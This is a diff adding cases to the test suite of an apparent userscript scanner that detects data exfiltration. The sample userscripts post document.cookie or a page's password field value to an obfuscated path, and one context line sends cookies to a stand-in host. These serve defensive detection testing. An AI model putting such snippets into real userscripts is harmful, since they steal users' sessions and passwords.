@@ -34,6 +34,19 @@ fetch("https://c.stranger.test/ping")`,
 				`fetch("https://mail.other.test/?c="+document.cookie)`,
 			),
 		],
+		[
+			"cookies to a path that may name a host",
+			["medium 5"],
+			userscript(["match https://shop.example/*"], `fetch("/"+unfold(4),{method:"POST",body:document.cookie})`),
+		],
+		[
+			"a password behind the site’s name, and what follows it",
+			["medium 5"],
+			userscript(
+				["match https://shop.example/*"],
+				`fetch(location.origin+unfold(4),{method:"POST",body:document.querySelector("[type=password]").value})`,
+			),
+		],
 	])("finds %s", (_title, expected, code) => {
 		expect(findIn(capabilityPair, code)).toEqual(expected);
 	});
@@ -49,6 +62,20 @@ fetch("https://c.stranger.test/ping")`,
 				["match https://shop.example/*"],
 				`const host=["api","stranger","test"].join(".");fetch("https://"+host+"/v1")`,
 			),
+		],
+		[
+			"a token for an interface of the site",
+			userscript(
+				["match https://shop.example/*"],
+				`const t=document.querySelector("meta[name=csrf-token]").content;
+function like(id){fetch("/api/like/"+id,{method:"POST",headers:{"x-csrf-token":t}})}
+function star(id){fetch(location.origin+"/star/"+id,{method:"POST",headers:{"x-csrf-token":t}})}
+fetch(location.pathname,{headers:{"x-csrf-token":t}})`,
+			),
+		],
+		[
+			"page text for a path that is put together",
+			userscript(["match https://shop.example/*"], `fetch("/"+unfold(4),{method:"POST",body:document.body.innerText})`),
 		],
 	])("leaves alone %s", (_title, code) => {
 		expect(findIn(capabilityPair, code)).toEqual([]);
